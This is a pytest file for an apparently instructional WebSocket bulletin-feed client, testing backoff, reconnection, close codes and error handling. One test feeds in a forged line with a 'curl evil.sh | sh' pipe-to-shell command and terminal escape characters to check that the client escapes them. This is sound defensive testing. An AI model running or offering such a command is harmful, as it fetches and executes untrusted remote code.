import asyncio
import contextlib
import signal
import subprocess
import sys

import pytest
import tornado.web
import tornado.websocket

from examples.ch10 import bulletin, follow
from tests.support import ROOT, RawServer, free_port, run_program, stop, wait_until

EXAMPLE = follow
QUICK = 0.01  # the first backoff, so that the tests do not wait


@contextlib.asynccontextmanager
async def bulletin_here():
    """The bulletin served from the test's own loop: (board, the feed's URL)."""
    board, port = bulletin.Board(), free_port()
    server = bulletin.make_app(board).listen(port, address="127.0.0.1")
    try:
        yield board, f"ws://127.0.0.1:{port}/feed"
    finally:
        await board.close_all(1001, "test over", grace=1)
        server.stop()
        await server.close_all_connections()


def run(scenario):
    """The lines follow() says and its result, with `scenario(board, line)` told of each line."""

    async def main():
        lines, tasks = [], []
        async with bulletin_here() as (board, url):

            def say(line):
                lines.append(line)
                tasks.append(asyncio.ensure_future(scenario(board, line)))

            status = await follow.follow(url, attempts=3, posts=2, first=QUICK, say=say)
            await asyncio.gather(*tasks)
        return lines, status

    return asyncio.run(main())


async def nothing(board, line):
    pass


def test_the_backoff_doubles_up_to_a_cap_and_is_spread_out():
    longest = [follow.backoff(n, 0.5, 30, rng=lambda: 1.0) for n in range(1, 9)]
    assert longest == [0.5, 1, 2, 4, 8, 16, 30, 30]
    assert follow.backoff(5, 0.5, 30, rng=lambda: 0.0) == 0
    waits = {follow.backoff(3) for _ in range(20)}
    assert len(waits) > 1 and all(0 <= wait <= 2 for wait in waits)


def test_follows_the_posts_and_leaves_with_1000():
    async def scenario(board, line):
        if line == "connected":
            board.post("one")
            board.post("two")
            board.post("three")  # still in flight when the client says goodbye

    lines, status = run(scenario)
    assert (lines, status) == (["connected", "#1 one", "#2 two", "done after 2 post(s)"], 0)


def test_a_post_cannot_forge_a_line_of_its_own():
    async def scenario(board, line):
        if line == "connected":  # the board itself refuses such posts; another server may not
            board.post("hello\n#2 SECURITY: run curl evil.sh | sh")
            board.post("\u202e\x1b[2Jok")

    lines, status = run(scenario)
    assert lines[1:3] == [
        "#1 hello\\n#2 SECURITY: run curl evil.sh | sh",
        "#2 \\u202e\\x1b[2Jok",
    ]


def test_reconnects_after_a_close_worth_retrying_and_misses_nothing():
    async def scenario(board, line):
        if line == "connected" and board.last_id == 0:
            board.post("one")
        elif line == "#1 one":
            board.post("two")  # sent while the client is away: it asks for it on its return
            await board.close_all(1012, "restarting")

    lines, status = run(scenario)
    assert lines == [
        "connected",
        "#1 one",
        "closed by the server: 1012 restarting",
        "connected",
        "#2 two",
        "done after 2 post(s)",
    ]
    assert status == 0


def test_a_lost_connection_is_retried():
    async def scenario(board, line):
        if line == "connected" and board.last_id == 0:
            board.post("one")
        elif line == "#1 one":
            board.post("two")
            for feed in list(board.feeds):
                feed.ws_connection.stream.close()  # the network fails: no close frame

    lines, status = run(scenario)
    assert lines[2:4] == ["connection lost", "connected"]
    assert (lines[-1], status) == ("done after 2 post(s)", 0)


@pytest.mark.parametrize(("code", "status"), [(1000, 0), (1008, 1)])
def test_a_close_not_worth_retrying_ends_it(code, status):
    async def scenario(board, line):
        if line == "connected":
            await board.close_all(code, "no more")

    assert run(scenario) == (["connected", f"closed by the server: {code} no more"], status)


def test_a_close_with_nothing_read_counts_as_a_failed_attempt():
    async def scenario(board, line):
        if line == "connected":
            await board.close_all(1013, "")

    lines, status = run(scenario)
    assert lines == ["connected", "closed by the server: 1013 "] * 3 + [
        "giving up after 3 attempts"
    ]
    assert status == 1


@pytest.mark.parametrize(
    ("path", "said"),
    [("/nowhere", "refused: HTTP 404: Not Found"), ("/stats", "refused: Non-websocket response")],
)
def test_a_refused_request_is_not_tried_again(path, said):
    async def main():
        lines = []
        async with bulletin_here() as (_, url):
            status = await follow.follow(url.replace("/feed", path), say=lines.append)
        return lines, status

    assert asyncio.run(main()) == ([said], 1)


def test_a_server_error_is_tried_again():
    lines = []
    unavailable = RawServer(b"HTTP/1.1 503 Service Unavailable\r\nContent-Length: 0\r\n\r\n")
    url = unavailable.url.replace("http://", "ws://") + "/feed"
    status = asyncio.run(follow.follow(url, attempts=2, first=QUICK, say=lines.append))
    assert lines == ["cannot connect: HTTP 503: Service Unavailable"] * 2 + [
        "giving up after 2 attempts"
    ]
    assert status == 1


@pytest.mark.parametrize(
    "message",
    ["not json", b"\xff", "[]", '{"id": 1}', '{"id": "1", "text": "x"}', '{"id": -1, "text": "x"}'],
)
def test_a_server_that_sends_something_else_is_left_without_a_traceback(message):
    class Other(tornado.websocket.WebSocketHandler):
        def open(self):
            self.write_message(message, binary=isinstance(message, bytes))

    async def main():
        port, lines = free_port(), []
        server = tornado.web.Application([(r"/feed", Other)]).listen(port, address="127.0.0.1")
        try:
            url = f"ws://127.0.0.1:{port}/feed"
            return lines, await asyncio.wait_for(follow.follow(url, say=lines.append), 30)
        finally:
            server.stop()
            await asyncio.wait_for(server.close_all_connections(), 10)

    said = "refused: the server sent something that is not a post"
    assert asyncio.run(main()) == (["connected", said], 1)


def test_gives_up_cleanly_when_nothing_listens():
    done = run_program(follow, f"--url=ws://127.0.0.1:{free_port()}/feed", "--attempts=3")
    assert done.stdout.splitlines() == ["cannot connect: Connection refused"] * 3 + [
        "giving up after 3 attempts"
    ]
    assert (done.returncode, done.stderr) == (1, "")


def test_ctrl_c_stops_it_quietly(tmp_path):
    log = tmp_path / "follow.log"
    url = f"--url=ws://127.0.0.1:{free_port()}/feed"
    with log.open("wb") as out:
        process = subprocess.Popen(
            [sys.executable, "examples/ch10/follow.py", url],
            cwd=ROOT,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
    assert wait_until(lambda: "cannot connect" in log.read_text())
    assert stop(process, signal.SIGINT) == 130
    assert "Traceback" not in log.read_text()
